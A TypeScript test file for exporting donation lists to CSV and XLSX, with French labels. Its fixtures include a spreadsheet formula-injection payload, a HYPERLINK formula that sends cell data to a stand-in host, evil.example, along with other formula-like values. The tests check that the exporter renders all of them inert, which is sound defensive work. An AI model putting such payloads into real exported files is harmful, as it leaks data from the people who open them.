import { readSheet } from 'read-excel-file/universal';
import { describe, expect, it } from 'vitest';
import type { ListColumn } from '@shared/export/list-export';
import { displayCell, exportBytes, exportFileName, exportTable } from '@shared/export/list-export';
import { formatMoney } from '@shared/format/intl';
import { readCsvTable } from '@shared/import/table';
import type { Cents } from '@shared/money/cents';

interface Gift {
  donor: string;
  on: string;
  cents: number;
  method: 'cash' | 'check';
  count: number;
}

const LABELS: Record<string, string> = {
  'gift.donor': 'Donateur',
  'gift.on': 'Reçu le',
  'gift.amount': 'Montant',
  'gift.method': 'Moyen',
  'gift.count': 'Places',
  'methods.cash': 'Espèces',
  'methods.check': 'Chèque',
};
const t = (key: string) => LABELS[key] ?? key;

const COLUMNS: ListColumn<Gift>[] = [
  { id: 'donor', label: 'gift.donor', cell: (gift) => gift.donor },
  { id: 'on', label: 'gift.on', cell: (gift) => ({ date: gift.on }) },
  { id: 'amount', label: 'gift.amount', cell: (gift) => ({ cents: gift.cents as Cents }) },
  { id: 'method', label: 'gift.method', cell: (gift, tr) => tr(`methods.${gift.method}`) },
  { id: 'count', label: 'gift.count', cell: (gift) => gift.count },
];

const GIFTS: Gift[] = [
  { donor: 'Zoé Lefèvre', on: '2026-07-14', cents: 125050, method: 'check', count: 2 },
  {
    donor: '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
    on: '',
    cents: 550,
    method: 'cash',
    count: 0,
  },
  { donor: '+33 6 12 34 56 78', on: '2026-01-02', cents: -5, method: 'cash', count: 1 },
  { donor: '@SUM(A1:A9)', on: '2026-12-31', cents: 0, method: 'cash', count: 1 },
  { donor: '\tTab; "quoted"\nline', on: '2026-03-04', cents: 1, method: 'check', count: 1 },
];

const table = exportTable(COLUMNS, GIFTS, t);

describe('exportTable', () => {
  it('writes the columns shown on screen, translated, with the same values', () => {
    expect(table.header).toEqual(['Donateur', 'Reçu le', 'Montant', 'Moyen', 'Places']);
    expect(table.rows[0]?.map((cell) => displayCell(cell))).toEqual([
      'Zoé Lefèvre',
      '14/07/2026',
      formatMoney(125050 as Cents),
      'Chèque',
      '2',
    ]);
  });
});

describe('CSV export', () => {
  it('reads back through the import parser: semicolons, BOM, French dates and amounts, formulas inert', async () => {
    const bytes = await exportBytes(table, 'csv', 'Dons');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const read = readCsvTable(new TextDecoder().decode(bytes));
    expect(read.separator).toBe(';');
    expect(read.errors).toEqual([]);
    expect(read.header).toEqual(['Donateur', 'Reçu le', 'Montant', 'Moyen', 'Places']);
    expect(read.rows.map((row) => row.cells)).toEqual([
      ['Zoé Lefèvre', '14/07/2026', '1250,50', 'Chèque', '2'],
      ['\'=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")', '', '5,50', 'Espèces', '0'],
      ["'+33 6 12 34 56 78", '02/01/2026', '-0,05', 'Espèces', '1'],
      ["'@SUM(A1:A9)", '31/12/2026', '0,00', 'Espèces', '1'],
      ['\'\tTab; "quoted"\nline', '04/03/2026', '0,01', 'Chèque', '1'],
    ]);
  });
});

describe('XLSX export', () => {
  it('reads back with read-excel-file: typed dates and amounts, no formula, injection inert', async () => {
    const bytes = await exportBytes(table, 'xlsx', 'Dons: 2026/07');
    expect(new TextDecoder().decode(bytes.slice(0, 2))).toBe('PK');
    const sheet = await readSheet(new Blob([bytes as Uint8Array<ArrayBuffer>]));
    expect(sheet[0]).toEqual(['Donateur', 'Reçu le', 'Montant', 'Moyen', 'Places']);
    expect(sheet[1]).toEqual(['Zoé Lefèvre', new Date(Date.UTC(2026, 6, 14)), 1250.5, 'Chèque', 2]);
    expect(sheet[2]).toEqual([
      '\'=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
      null,
      5.5,
      'Espèces',
      0,
    ]);
    expect(sheet[3]?.[0]).toBe("'+33 6 12 34 56 78");
    expect(sheet[3]?.[2]).toBe(-0.05);
    expect(sheet[4]?.[0]).toBe("'@SUM(A1:A9)");
    expect(sheet[5]?.[0]).toBe('\'\tTab; "quoted"\nline');
    expect(sheet).toHaveLength(6);
  });

  it('never writes a formula element into the sheet', async () => {
    const bytes = await exportBytes(table, 'xlsx', 'Dons');
    const { unzipSync, strFromU8 } = await import('fflate');
    const files = unzipSync(bytes);
    const xml = Object.entries(files)
      .filter(([name]) => name.startsWith('xl/'))
      .map(([, content]) => strFromU8(content))
      .join('');
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toContain('HYPERLINK');
  });
});

describe('exportFileName', () => {
  it('names the file after the list and the day', () => {
    expect(exportFileName('membres', '2026-09-08', 'xlsx')).toBe('membres-2026-09-08.xlsx');
    expect(exportFileName('dons: 2026 / été', '2026-09-08', 'csv')).toBe('dons-2026-été-2026-09-08.csv');
  });
});
